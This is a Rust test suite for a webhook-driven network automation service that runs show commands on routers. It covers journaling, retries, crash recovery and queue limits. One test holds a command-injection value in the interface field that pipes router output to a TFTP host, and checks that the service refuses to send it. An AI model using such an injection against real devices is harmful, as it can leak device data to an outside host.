//! Whole loops through the one value: ordinary, broken, killed, hostile.

use expect_test::expect_file;
use fact::Kind;
use proptest::prelude::*;
use simtime::Duration;

use crate::record::{ActionVerdict, Outcome, Record};
use crate::story::{JobState, State};
use crate::testkit::{Device, LISTENER, Request, Rig};
use crate::{Delivery, DeliveryId, Input, SessionFailure, SessionId};

const DOWN: &str = r#"{"event": "InterfaceDown", "interface": "GigabitEthernet1"}"#;
const TRACEPARENT: &str = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
const LONG: Duration = Duration::from_secs(600);

fn down(token: &str) -> Request {
    Request::new(DOWN).token(token)
}

/// The feed, one line per fact; the ids, which are drawn, are replaced by their kind.
fn facts(rig: &Rig) -> String {
    let lines = rig.facts.iter().map(|fact| {
        let node = fact.node.as_deref().unwrap_or("-");
        let kind = serde_json::to_string(&fact.kind).expect("only string keys");
        format!("{node} {}\n", without_ids(&kind))
    });
    lines.collect()
}

fn without_ids(text: &str) -> String {
    let mut text = text.to_owned();
    for prefix in ["evt_", "job_"] {
        while let Some(at) = text.find(prefix) {
            text.replace_range(at..at + prefix.len() + 16, prefix.trim_end_matches('_'));
        }
    }
    text
}

/// Goal: the loop of the contract, fact by fact, and its story. Method: one event, all at once.
#[test]
fn the_loop_closes() {
    let mut rig = Rig::new(LISTENER);
    let request = down("token-of-r1").header("traceparent", TRACEPARENT);
    let (status, event) = rig.status(&request.header("webhook-id", "msg_1"));
    assert_eq!(status, 202);
    expect_file!["snapshots/loop.facts"].assert_eq(&facts(&rig));
    let trace = "4bf92f3577b34da6a3ce929d0e0e4736";
    let traced = |fact: &fact::Fact| fact.trace.is_some_and(|id| id.to_string() == trace);
    assert!(rig.facts.iter().all(traced), "one id from the fault to here");
    let story = serde_json::to_string_pretty(&rig.story(&event)).expect("JSON");
    expect_file!["snapshots/loop.story.json"].assert_eq(&format!("{}\n", without_ids(&story)));
    assert_eq!(rig.automation.next_deadline(), None, "nothing is left to wait for");
}

/// Goal: no 2xx before the event is on disk. Method: a disk that answers late.
#[test]
fn a_reply_waits_for_the_disk() {
    let mut rig = Rig::new(LISTENER);
    rig.slow_disk = true;
    let request = down("token-of-r1").header("webhook-id", "msg_1");
    assert_eq!(rig.deliver(&request), None);
    assert_eq!(rig.deliver(&request), None, "a repeat waits too");
    assert!(rig.lines.is_empty());
    rig.disk_answers();
    let statuses: Vec<u16> = rig.replies.iter().map(|reply| reply.status).collect();
    assert_eq!(statuses, [202, 200]);
    let accepted = rig.records().iter().filter(|r| matches!(r, Record::Accepted(_))).count();
    assert_eq!(accepted, 1);
}

/// Goal: a disk that takes nothing is 503, and the same delivery is welcome later.
#[test]
fn a_full_disk_is_503() {
    let mut rig = Rig::new(LISTENER);
    rig.disk = false;
    let request = down("token-of-r1").header("webhook-id", "msg_1");
    assert_eq!(rig.status(&request).0, 503);
    assert_eq!(rig.replies[0].headers[1], ("retry-after".into(), "1".to_owned()));
    rig.disk = true;
    assert_eq!(rig.status(&request).0, 202);
}

/// Goal: once accepted, an event is decided and acted upon though the disk fails in between.
#[test]
fn a_disk_that_fails_later_delays() {
    let mut rig = Rig::new(LISTENER);
    rig.slow_disk = true;
    rig.deliver(&down("token-of-r1"));
    rig.disk = false;
    rig.slow_disk = false;
    rig.input(Input::Persisted(crate::PersistId(0)));
    assert_eq!(rig.replies[0].status, 202);
    assert!(rig.lines.is_empty(), "the decision is not durable");
    rig.settle(Duration::from_millis(1_500));
    assert!(rig.lines.is_empty());
    rig.disk = true;
    rig.settle(LONG);
    assert_eq!(rig.kinds(|kind| matches!(kind, Kind::JobDone { .. }).then_some(())).len(), 1);
}

/// Goal: what is on disk is a beginning of what happened: after a failure nothing overtakes what
/// failed, however long the disk is away, and no job fails or is tried for that. Method: the disk
/// fails under a running job, for longer than a job may take; then it comes back.
#[test]
fn a_failed_disk_keeps_the_order() {
    let at = "show interfaces GigabitEthernet1";
    let mut rig = Rig::new(LISTENER);
    rig.devices.insert("R1".into(), Device::DropsAt(at));
    rig.slow_disk = true;
    let (first, second) = (down("token-of-r1"), down("token-of-r1"));
    rig.deliver(&first);
    rig.deliver(&second);
    rig.disk_answers();
    let tries = |rig: &Rig| rig.lines.iter().filter(|(_, line)| line == at).count();
    assert_eq!(tries(&rig), 1, "the first job of R1 was tried, and waits");
    rig.disk = false;
    rig.settle(Duration::from_secs(400));
    assert_eq!(tries(&rig), 1, "a try whose record is not durable was begun");
    assert_eq!(rig.status(&down("token-of-r2")), (503, "the journal cannot be written".into()));
    rig.disk = true;
    rig.devices.clear();
    rig.settle(LONG);
    assert_eq!(rig.status(&down("token-of-r2")).0, 202);
    rig.settle(LONG);
    let ends: Vec<&Outcome> = rig
        .records()
        .iter()
        .filter_map(|record| match record {
            Record::JobDone(done) => Some(&done.outcome),
            _ => None,
        })
        .collect();
    assert_eq!(ends, [&Outcome::Done, &Outcome::Done, &Outcome::Done]);
    assert!(doubts_are_marked(rig.records()));
}

/// Goal: a batch that was asked for after one that failed does not get ahead of it, and new events
/// among them are refused. Method: two events in flight; the disk refuses the first's decision.
#[test]
fn nothing_overtakes_what_failed() {
    let mut rig = Rig::new(LISTENER);
    rig.slow_disk = true;
    rig.deliver(&down("token-of-r1"));
    rig.input(Input::Persisted(crate::PersistId(0)));
    rig.deliver(&down("token-of-r2"));
    rig.input(Input::PersistFailed { persist: crate::PersistId(1), reason: "no space left" });
    let statuses = |rig: &Rig| rig.replies.iter().map(|reply| reply.status).collect::<Vec<_>>();
    assert_eq!(statuses(&rig), [202], "the second is still under way");
    rig.deliver(&down("token-of-r2"));
    assert_eq!(statuses(&rig), [202, 503]);
    assert!(rig.automation.next_deadline().is_none(), "not all is answered");
    rig.input(Input::PersistFailed { persist: crate::PersistId(2), reason: "no space left" });
    assert_eq!(statuses(&rig), [202, 503, 503]);
    rig.forget_held();
    rig.slow_disk = false;
    rig.settle(LONG);
    let first = rig.records()[0].event().to_owned();
    assert!(matches!(rig.records()[0], Record::Decided(_)));
    assert!(rig.records().iter().all(|record| record.event() == first));
}

/// Goal: ids tell repeats from news, each sender for itself. Method: a table of deliveries.
#[test]
fn repeats_start_nothing() {
    let mut rig = Rig::new(LISTENER);
    let with = |token: &str, body: &str, id: &str| {
        Request::new(body).token(token).header("webhook-id", id)
    };
    let other = DOWN.replace('1', "2");
    let (_, first) = rig.status(&with("token-of-r1", DOWN, "a"));
    assert_eq!(rig.status(&with("token-of-r1", DOWN, "a")), (200, first));
    let conflict = "the `webhook-id` was used for another body".to_owned();
    assert_eq!(rig.status(&with("token-of-r1", &other, "a")), (409, conflict));
    assert_eq!(rig.status(&with("token-of-r1", DOWN, "b")).0, 202);
    assert_eq!(rig.status(&with("token-of-r2", &other, "a")).0, 202);
    assert_eq!(rig.status(&Request::new(DOWN).header("webhook-id", "a")).0, 202);
    assert_eq!(rig.status(&down("token-of-r1")).0, 202, "without an id: a new event");
    assert_eq!(rig.status(&down("token-of-r1")).0, 202);
    rig.restart(LISTENER);
    assert_eq!(rig.status(&with("token-of-r1", DOWN, "a")).0, 200, "over a restart too");
}

/// Goal: a claim never acts on a real node, and an unknown device starts nothing; both say so.
#[test]
fn claims_and_strangers_start_nothing() {
    let on_box = LISTENER.replace("show = ", "on = \"box\"\nshow = ");
    let table = [
        (LISTENER, "Router1", 1, ""),
        (LISTENER, "box", 0, "`box` is a real node, and the sender proved nothing"),
        (&on_box, "Router1", 0, "`box` is a real node, and the sender proved nothing"),
        (LISTENER, "stranger", 0, "unknown device: no job is started"),
        (&on_box, "stranger", 0, "unknown device: no job is started"),
    ];
    for (listener, device, jobs, why) in table {
        let mut rig = Rig::new(listener);
        let body = DOWN.replace('{', &format!("{{\"device\": \"{device}\", "));
        let (status, event) = rig.status(&Request::new(&body));
        assert_eq!(status, 202, "{device}");
        let story = rig.story(&event);
        assert_eq!(story.jobs.len(), jobs, "{device}");
        assert_eq!(story.note.is_some(), device == "stranger");
        let skipped = story.rules[0].actions.iter().find_map(|action| match action {
            ActionVerdict::Skipped(why) => Some(why.as_str()),
            ActionVerdict::Job(_) => None,
        });
        assert_eq!(skipped.unwrap_or_default(), why, "{device}");
    }
    let mut rig = Rig::new(&on_box);
    let (_, event) = rig.status(&down("token-of-r1"));
    assert_eq!(rig.story(&event).jobs[0].device.as_deref(), Some("box"), "a proved sender may");
}

/// Goal: `observe` decides and shows, and runs nothing, for all rules or for one.
#[test]
fn observing_runs_nothing() {
    let all = LISTENER.replace("mode = \"act\"", "mode = \"observe\"");
    let one = LISTENER.replace("[[rules.actions]]", "mode = \"observe\"\n[[rules.actions]]");
    for listener in [all, one] {
        let mut rig = Rig::new(&listener);
        let (_, event) = rig.status(&down("token-of-r1"));
        let story = rig.story(&event);
        assert_eq!(story.state, State::Done);
        let want = "observed only: `show ip interface brief`, `show interfaces GigabitEthernet1` \
                    would be sent to `R1`";
        assert_eq!(story.rules[0].actions, [ActionVerdict::Skipped(want.to_owned())]);
        assert!(rig.lines.is_empty());
    }
}

/// Goal: a hostile value is stored, named and never sent.
#[test]
fn a_hostile_value_stops_its_action() {
    let mut rig = Rig::new(LISTENER);
    let body = r#"{"event": "InterfaceDown", "interface": "Gi1 | redirect tftp://192.0.2.9/x"}"#;
    let (status, event) = rig.status(&Request::new(body).token("token-of-r1"));
    assert_eq!(status, 202);
    let story = rig.story(&event);
    assert!(story.rules[0].matched);
    let shown = format!("{:?}", story.rules[0].actions);
    assert!(shown.contains("`interface` takes the name of an interface"), "{shown}");
    assert!(rig.lines.is_empty());
}

/// Goal: what may pass is tried again, with growing waits, and what may not is not.
#[test]
fn failures_are_tried_again_or_not() {
    let key = SessionFailure::HostKey { offered: "SHA256:x".into(), reason: "changed".into() };
    let table = [
        (SessionFailure::Unreachable("no route".into()), 3, "unreachable: no route"),
        (SessionFailure::Timeout, 3, "the login took too long"),
        (SessionFailure::NoShell("closed".into()), 3, "no shell: closed"),
        (SessionFailure::Refused, 1, "the device refused user and password"),
        (SessionFailure::Misconfigured("no address".into()), 1, "misconfigured: no address"),
        (key, 1, "host key SHA256:x refused: changed"),
    ];
    for (failure, attempts, why) in table {
        let mut rig = Rig::new(LISTENER);
        rig.devices.insert("R1".into(), Device::Failing(failure));
        let (_, event) = rig.status(&down("token-of-r1"));
        rig.settle(LONG);
        let story = rig.story(&event);
        assert_eq!(story.state, State::Failed);
        let job = &story.jobs[0];
        assert_eq!(job.attempts.len(), attempts, "{why}");
        assert_eq!(job.error.as_deref(), Some(why));
        assert!(job.attempts.iter().all(|attempt| !attempt.in_doubt), "nothing was sent");
    }
}

/// Goal: a session that breaks in the middle is taken up where it broke, marked in doubt.
#[test]
fn a_broken_session_goes_on() {
    let at = "show interfaces GigabitEthernet1";
    for device in [Device::DropsAt(at), Device::HangsAt(at)] {
        let mut rig = Rig::new(LISTENER);
        rig.devices.insert("R1".into(), device);
        let (_, event) = rig.status(&down("token-of-r1"));
        let broken = |rig: &Rig| {
            rig.records().iter().any(|record| matches!(record, Record::AttemptFailed(_)))
        };
        while !broken(&rig) {
            let next = rig.automation.next_deadline().expect("a bounded wait");
            rig.settle(next.since(rig.now));
        }
        rig.devices.clear();
        rig.settle(LONG);
        let job = rig.story(&event).jobs.remove(0);
        assert_eq!(job.state, JobState::Done);
        let marks: Vec<bool> = job.attempts.iter().map(|attempt| attempt.in_doubt).collect();
        assert_eq!(marks.first(), Some(&false));
        assert!(marks[1..].iter().all(|mark| *mark), "{marks:?}");
        let sent: Vec<&str> = rig
            .lines
            .iter()
            .map(|(_, line)| line.as_str())
            .filter(|line| line.starts_with("show"))
            .collect();
        assert_eq!(sent[0], "show ip interface brief");
        assert!(sent[1..].iter().all(|line| *line == at), "answered ones are not repeated");
    }
}

/// Goal: one device that hangs holds up nobody else, and its own jobs only for a bounded time.
#[test]
fn a_hanging_device_is_alone() {
    let mut rig = Rig::new(LISTENER);
    rig.devices.insert("R1".into(), Device::HangsAt("terminal length 0"));
    let (_, hanging) = rig.status(&down("token-of-r1"));
    let (_, other) = rig.status(&down("token-of-r2"));
    assert_eq!(rig.story(&other).state, State::Done);
    assert_eq!(rig.story(&hanging).state, State::Running);
    rig.settle(LONG);
    assert_eq!(rig.story(&hanging).state, State::Failed);
    assert!(rig.now.since(simtime::Time::VIRTUAL_START) <= Duration::from_secs(185));
    assert_eq!(rig.automation.next_deadline(), None);
}

/// Goal: jobs of one device run in the order of their events, one session at a time.
#[test]
fn one_device_one_job_at_a_time() {
    let mut rig = Rig::new(LISTENER);
    rig.slow_disk = true;
    for port in 1..=5 {
        let body = DOWN.replace('1', &port.to_string());
        rig.deliver(&Request::new(&body).token("token-of-r1"));
    }
    rig.disk_answers();
    rig.settle(LONG);
    let ports: Vec<&str> = rig
        .lines
        .iter()
        .filter_map(|(_, line)| line.strip_prefix("show interfaces GigabitEthernet"))
        .collect();
    assert_eq!(ports, ["1", "2", "3", "4", "5"]);
    assert_eq!(rig.sessions_most, 1);
    assert!(rig.sessions.is_empty());
}

/// Goal: queues are bounded, and what is refused says when to come again.
#[test]
fn a_full_queue_is_503() {
    let mut rig = Rig::new(&LISTENER.replace("path =", "rate = \"5000/s\"\npath ="));
    rig.devices.insert("R1".into(), Device::HangsAt("terminal length 0"));
    let mut accepted = 0;
    let refused = loop {
        // No two ask the same, or they would share one answer.
        let body = format!(r#"{{"event": "InterfaceDown", "interface": "Gi{accepted}"}}"#);
        let (status, _) = rig.status(&Request::new(&body).token("token-of-r1"));
        if status != 202 {
            break status;
        }
        accepted += 1;
    };
    assert_eq!((accepted, refused), (257, 503));
    assert_eq!(rig.status(&down("token-of-r2")).0, 202, "others are served");
    rig.slow_disk = true;
    let held = (0..2_000).filter(|_| rig.deliver(&down("token-of-r2")).is_none()).count();
    assert_eq!(held, 1_024);
}

/// Goal: a process that is killed anywhere finishes after its restart, decides each event once,
/// and marks what it repeats. Method: kill after every single record.
#[test]
fn killed_anywhere_it_goes_on() {
    let mut whole = Rig::new(LISTENER);
    whole.status(&down("token-of-r1"));
    let records = whole.records().to_vec();
    for kept in 1..=records.len() {
        let mut rig = Rig::new(LISTENER);
        rig.store.write(&records[..kept]);
        rig.store.sync();
        rig.restart(LISTENER);
        rig.settle(LONG);
        let event = records[0].event();
        let story = rig.story(event);
        assert_eq!(story.state, State::Done, "killed after record {kept}");
        let decided = rig.records().iter().filter(|r| matches!(r, Record::Decided(_))).count();
        assert_eq!(decided, 1, "killed after record {kept}");
        let answered: Vec<&str> =
            story.commands().map(|(_, command)| command.command.as_str()).collect();
        let want = ["show ip interface brief", "show interfaces GigabitEthernet1"];
        assert_eq!(answered, want, "killed after record {kept}");
        let attempts = &story.jobs[0].attempts;
        let repeats = attempts.iter().filter(|attempt| attempt.attempt > 1);
        let was_open = match &records[kept - 1] {
            Record::Attempt(_) => true,
            Record::Command(command) => command.index == 0,
            _ => false,
        };
        assert_eq!(repeats.filter(|attempt| attempt.in_doubt).count() > 0, was_open, "{kept}");
    }
}

/// Goal: the doubt of one try outlives a later one that sent nothing, also over a restart.
#[test]
fn doubt_outlives_a_try_that_sent_nothing() {
    let at = "show interfaces GigabitEthernet1";
    let failed = |rig: &Rig| {
        rig.records().iter().filter(|record| matches!(record, Record::AttemptFailed(_))).count()
    };
    let mut rig = Rig::new(LISTENER);
    rig.devices.insert("R1".into(), Device::DropsAt(at));
    let (_, event) = rig.status(&down("token-of-r1"));
    assert_eq!(failed(&rig), 1);
    rig.devices.insert("R1".into(), Device::Failing(SessionFailure::Timeout));
    let next = rig.automation.next_deadline().expect("a second try");
    rig.now = next;
    rig.input(Input::Deadline);
    assert_eq!(failed(&rig), 2);
    rig.devices.clear();
    rig.restart(LISTENER);
    rig.settle(LONG);
    let marks: Vec<bool> =
        rig.story(&event).jobs[0].attempts.iter().map(|attempt| attempt.in_doubt).collect();
    assert_eq!(marks, [false, true, true]);
}

/// Goal: restarts give a job no more tries than its three, and none after a failure that is final.
/// Method: kill after every record of a job that fails; between its last two it cannot be killed.
#[test]
fn a_restart_gives_no_further_tries() {
    for (failure, most) in [(SessionFailure::Timeout, 3), (SessionFailure::Refused, 1)] {
        let mut whole = Rig::new(LISTENER);
        whole.devices.insert("R1".into(), Device::Failing(failure.clone()));
        whole.status(&down("token-of-r1"));
        whole.settle(LONG);
        let records = whole.records().to_vec();
        let failed = |record: &&Record| matches!(record, Record::AttemptFailed(_));
        assert_eq!(records.iter().filter(failed).count(), most);
        for kept in (1..=records.len()).filter(|kept| *kept != records.len() - 1) {
            let mut rig = Rig::new(LISTENER);
            rig.devices.insert("R1".into(), Device::Failing(failure.clone()));
            rig.store.write(&records[..kept]);
            rig.store.sync();
            rig.restart(LISTENER);
            rig.settle(LONG);
            assert_eq!(rig.records().iter().filter(failed).count(), most, "killed after {kept}");
            assert_eq!(rig.story(records[0].event()).state, State::Failed);
        }
    }
}

/// How the devices behave while the process lives through its `life`-th life.
fn mood(rig: &mut Rig, life: u8) {
    rig.devices.clear();
    let device = match life % 4 {
        0 => return,
        1 => Device::DropsAt("show interfaces GigabitEthernet1"),
        2 => Device::Failing(SessionFailure::Timeout),
        _ => Device::HangsAt("show ip interface brief"),
    };
    rig.devices.insert("R1".into(), device);
}

proptest! {
    /// Goal: however often and wherever a process is killed, each accepted event is decided once,
    /// each job ends once, no answered command is sent again, and what may have been is marked.
    /// Method: several events, devices that misbehave, and after each life a prefix of the journal.
    #[test]
    fn killed_often_it_goes_on(
        first in 0u8..4,
        lives in prop::collection::vec((0u8..4, any::<prop::sample::Index>()), 1..5),
    ) {
        let mut rig = Rig::new(LISTENER);
        mood(&mut rig, first);
        for token in ["token-of-r1", "token-of-r2", "token-of-r1"] {
            rig.status(&down(token));
        }
        rig.settle(LONG);
        for (life, cut) in lives {
            let records = rig.records().to_vec();
            let kept = records[..=cut.index(records.len())].to_vec();
            rig = Rig::new(LISTENER);
            mood(&mut rig, life);
            rig.store.write(&kept);
            rig.store.sync();
            rig.restart(LISTENER);
            rig.settle(LONG);
        }
        let records = rig.records();
        let count = |is: &dyn Fn(&Record) -> bool| records.iter().filter(|r| is(r)).count();
        for record in records {
            let id = record.event();
            match record {
                Record::Accepted(_) => {
                    let decided = count(&|r| matches!(r, Record::Decided(_)) && r.event() == id);
                    prop_assert_eq!(decided, 1);
                }
                Record::Decided(decided) => for plan in &decided.jobs {
                    let ends = |r: &Record| {
                        matches!(r, Record::JobDone(done) if done.job == plan.job)
                    };
                    prop_assert_eq!(count(&ends), 1);
                },
                Record::Command(one) => {
                    let same = |r: &Record| matches!(r, Record::Command(other)
                        if other.job == one.job && other.index == one.index);
                    prop_assert_eq!(count(&same), 1);
                }
                Record::Approval(_)
                | Record::Stepped(_)
                | Record::Resolved(_)
                | Record::Kept(_)
                | Record::Attempt(_)
                | Record::AttemptFailed(_)
                | Record::JobDone(_) => {}
            }
        }
        prop_assert!(doubts_are_marked(records));
    }
}

/// Whether each try that follows one which may have sent an unanswered command says so.
fn doubts_are_marked(records: &[Record]) -> bool {
    let mut doubted = std::collections::BTreeMap::new();
    records.iter().all(|record| match record {
        Record::Attempt(attempt) => {
            let before = doubted.insert(attempt.job.clone(), (attempt.in_doubt, true));
            // A try that was begun and has no end was killed, and may have sent.
            let may_have_sent = before.is_some_and(|(doubt, open)| doubt || open);
            attempt.in_doubt == may_have_sent
        }
        Record::Command(command) => {
            doubted.insert(command.job.clone(), (false, true));
            true
        }
        Record::AttemptFailed(failed) => {
            let doubt = doubted.get(&failed.job).is_some_and(|(doubt, _)| *doubt);
            doubted.insert(failed.job.clone(), (doubt || failed.sent, false));
            true
        }
        Record::Accepted(_)
        | Record::Decided(_)
        | Record::Stepped(_)
        | Record::Resolved(_)
        | Record::Kept(_)
        | Record::Approval(_)
        | Record::JobDone(_) => true,
    })
}

/// Goal: the same inputs give the same outputs. Method: two runs, all facts and records compared.
#[test]
fn the_same_inputs_give_the_same_outputs() {
    let run = || {
        let mut rig = Rig::new(LISTENER);
        rig.devices.insert("R1".into(), Device::Failing(SessionFailure::Timeout));
        rig.status(&down("token-of-r1"));
        rig.status(&down("token-of-r2"));
        rig.settle(LONG);
        (rig.facts.clone(), rig.records().to_vec())
    };
    assert_eq!(run(), run());
}

proptest! {
    /// Goal: no order of inputs makes the value panic. Method: any inputs, sensible or not.
    #[test]
    fn any_inputs_are_survived(
        steps in prop::collection::vec((0u8..9, 0u64..4, any::<u8>()), 0..60),
    ) {
        let mut rig = Rig::new(LISTENER);
        rig.devices.insert("R1".into(), Device::HangsAt("terminal length 0"));
        for (what, id, byte) in steps {
            let session = SessionId(id);
            let bodies = [DOWN.as_bytes().to_vec(), b"{".to_vec(), vec![byte]];
            let body = &bodies[usize::from(byte) % 3];
            let headers = [
                ("content-type".to_owned(), "application/json".to_owned()),
                ("authorization".to_owned(), "Bearer token-of-r1".to_owned()),
            ];
            match what {
                0 | 1 => rig.input(Input::Delivery(Delivery {
                    delivery: DeliveryId(id),
                    method: restconf::Method::Post,
                    path: "/events",
                    query: "",
                    peer: "127.0.0.1".parse().expect("an address"),
                    local: byte % 2 == 0,
                    headers: &headers,
                    body,
                })),
                2 => rig.slow_disk = byte % 2 == 0,
                3 => rig.input(Input::Persisted(crate::PersistId(id))),
                4 => rig.input(Input::PersistFailed { persist: crate::PersistId(id), reason: "x" }),
                5 => rig.input(Input::SessionOpened(session)),
                6 => rig.input(Input::SessionBytes { session, bytes: &[byte, b'\n', byte] }),
                7 => rig.input(Input::SessionClosed(session)),
                _ => rig.settle(Duration::from_secs(u64::from(byte))),
            }
        }
        rig.disk_answers();
        rig.settle(Duration::from_secs(100_000));
        prop_assert!(rig.automation.next_deadline().is_none());
    }
}
